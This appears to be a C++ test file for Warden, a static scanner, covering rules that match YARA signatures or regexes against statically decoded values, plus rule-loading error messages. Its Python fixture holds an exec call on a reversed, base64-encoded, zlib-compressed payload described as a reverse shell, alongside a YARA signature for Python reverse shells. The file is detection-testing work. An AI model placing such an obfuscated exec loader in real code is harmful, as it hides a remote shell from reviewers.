// `where decoded($X) matches ...`: rules applying a regex or a YARA signature to the value
// Warden computes statically for a metavariable, and what the finding says about it.
#include <gtest/gtest.h>

#include "temp_tree.hpp"
#include "warden/warden.hpp"

namespace warden {
namespace {

using testing::TempTree;

constexpr const char* kSignatures = R"(
rule py_socket_shell : shell {
  meta:
    title = "Python reverse shell"
    severity = "critical"
  strings:
    $socket = "socket.socket("
    $dup2 = "dup2("
    $shell = "/bin/sh"
  condition:
    all of them
}
rule marker { strings: $m = "MARKER-42" condition: $m }
)";

constexpr const char* kRules = R"(
rule decoded-exec-signature {
  title: "Exec of a payload matching a signature"
  message: "{callee} runs {decoded.chain} matching {yara.rule}: {decoded}"
  severity: critical
  confidence: high
  match: all {
    call [exec, eval]
    pattern `$F($CODE, ...)`
    where decoded($CODE) matches yara [py_socket_shell, payloads.marker]
  }
}

rule decoded-exec-regex {
  title: "Exec of a payload importing socket"
  message: "{callee} runs {decoded.chain}"
  severity: high
  confidence: medium
  match: all {
    call exec
    pattern `exec($CODE)`
    where decoded($CODE) matches "import socket"
  }
}
)";

// A reverse shell, zlib-compressed, base64-encoded, reversed: PAYLOAD[::-1] is base64 of zlib data.
constexpr const char* kPayloadModule = R"(import base64
import zlib
from base64 import b64decode as unpack

PAYLOAD = "==gYoo0r/84TgpcvDDfE23ObX7RJCjGFMqgrrsro6qAkUklblaMBbzrf1cGGGmDdw/U+YwXAUTuiT2IGF4Db1r9N6TtaOZOtTvTvTfl1LjZYOncT3TfpInpKJlatWfYIlQfzoHHKAJJfi9LBMAzwKEEjlwJe"


def run():
    exec(zlib.decompress(unpack(PAYLOAD[::-1])))


def harmless():
    exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))


def marked():
    eval("MARKER" + "-42")


def unknown(text):
    exec(base64.b64decode(text))
)";

struct Scanned {
  TempTree tree;
  ScanResult result;
};

ScanResult scan_payload(const std::string& rules_text, const std::string& module) {
  const TempTree tree({{"rules/payloads.yar", kSignatures}, {"rules/decoded.rule", rules_text}, {"repo/model.py", module}});
  const auto rules = RuleSet::load({tree.root() / "rules"}).select("-yara.*");
  ScanResult result = Scanner(rules).scan({tree.root() / "repo"});
  for (Finding& f : result.findings) f.file = f.file.substr(f.file.rfind('/') + 1);
  return result;
}

TEST(DecodedCondition, SignatureOnADecodedChain) {
  const ScanResult result = scan_payload(kRules, kPayloadModule);
  std::vector<std::string> got;
  for (const Finding& f : result.findings) got.push_back(f.rule_id + "@" + std::to_string(f.range.start.line));
  EXPECT_EQ(got, (std::vector<std::string>{"decoded-exec-regex@9", "decoded-exec-signature@9", "decoded-exec-signature@17"}));
  const Finding& shell = result.findings[1];
  ASSERT_TRUE(shell.decoded.has_value());
  EXPECT_EQ(shell.decoded->chain, (std::vector<std::string>{"[::-1]", "base64.b64decode", "zlib.decompress"}));
  EXPECT_EQ(shell.decoded->signatures, (std::vector<std::string>{"payloads.py_socket_shell"}));
  EXPECT_TRUE(shell.decoded->is_bytes);
  EXPECT_EQ(shell.decoded->size, 128u);
  EXPECT_TRUE(shell.decoded->excerpt.starts_with("import socket,os,pty;s=socket.socket();")) << shell.decoded->excerpt;
  EXPECT_TRUE(shell.message.starts_with("exec runs [::-1] -> base64.b64decode -> zlib.decompress matching "
                                        "payloads.py_socket_shell: import socket,os,pty;"))
      << shell.message;
  // A literal is a value too: its chain is empty.
  const Finding& marked = result.findings[2];
  ASSERT_TRUE(marked.decoded.has_value());
  EXPECT_TRUE(marked.decoded->chain.empty());
  EXPECT_EQ(marked.decoded->signatures, (std::vector<std::string>{"payloads.marker"}));
  EXPECT_EQ(marked.message, "eval runs a literal matching payloads.marker: MARKER-42");
}

TEST(DecodedCondition, NegatedConditionHoldsForValuesItCannotCompute) {
  const std::string rules = R"(
rule exec-unknown-payload {
  title: "t"
  message: "m"
  severity: low
  confidence: low
  match: all {
    pattern `exec($CODE)`
    where decoded($CODE) not matches "."
  }
}
)";
  const ScanResult result = scan_payload(rules, kPayloadModule);
  ASSERT_EQ(result.findings.size(), 1u);
  EXPECT_EQ(result.findings[0].range.start.line, 21u);  // exec(base64.b64decode(text)): not computable
  EXPECT_FALSE(result.findings[0].decoded.has_value());
}

std::string load_error(const std::string& rule_text) {
  const TempTree tree({{"rules/payloads.yar", kSignatures}, {"rules/r.rule", rule_text}});
  try {
    (void)RuleSet::load({tree.root() / "rules"});
  } catch (const RuleError& e) {
    std::string out;
    for (const auto& error : e.errors()) out += std::to_string(error.position.line) + ":" + std::to_string(error.position.column) + ": " + error.message + "\n";
    return out;
  }
  return "";
}

std::string rule_with(const std::string& match, const std::string& message = "m") {
  return "rule r {\n  title: \"t\"\n  message: \"" + message + "\"\n  severity: low\n  confidence: low\n  match: " + match +
         "\n}\n";
}

// Errors point at the metavariable of the condition (column 41 of line 6 here).
TEST(DecodedCondition, LoweringChecksNamesTestsAndPlaceholders) {
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded($X) matches yara [no_such_rule] }")),
            "6:41: no YARA rule named 'no_such_rule' among the loaded signature files\n");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded($X) matches yara [payloads.py_*, marker] }")), "");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded($X) in [a, b] }")),
            "6:41: decoded($X) takes only `matches \"RE\"`, `matches yara [...]` or `is [...]`\n");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where $X matches yara [marker] }")),
            "6:33: `matches yara` applies to a value: write decoded($X) matches yara [...]\n");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded($Y) matches \"x\" }")),
            "6:41: metavariable $Y is used in 'where' but never bound by a pattern\n");
  EXPECT_EQ(load_error(rule_with("`exec($X)`", "{decoded.chain}")),
            "3:12: {decoded.chain} in the message needs a `where decoded($X) ...` condition\n");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded($X) matches \"x\" }", "{yara.rule}")),
            "3:12: {yara.rule} in the message needs a `where decoded($X) matches yara [...]` condition\n");
  EXPECT_EQ(load_error(rule_with("all { `exec($X)` where decoded $X matches \"x\" }")),
            "6:41: expected '(' after decoded\n");
}

TEST(DecodedCondition, BuiltinSignaturesCanBeNamedWithoutBeingChecks) {
  // A rule file of one's own may name the built-in signatures (as it keeps the built-in flow
  // models); they are not file-level checks then.
  const auto rules = RuleSet::from_text(
      "mine.rule", rule_with("all { `exec($X)` where decoded($X) matches yara [reverse_shells.*] }"));
  ASSERT_EQ(rules.size(), 1u);
  EXPECT_EQ(rules.rules()[0].id, "r");
}

}  // namespace
}  // namespace warden
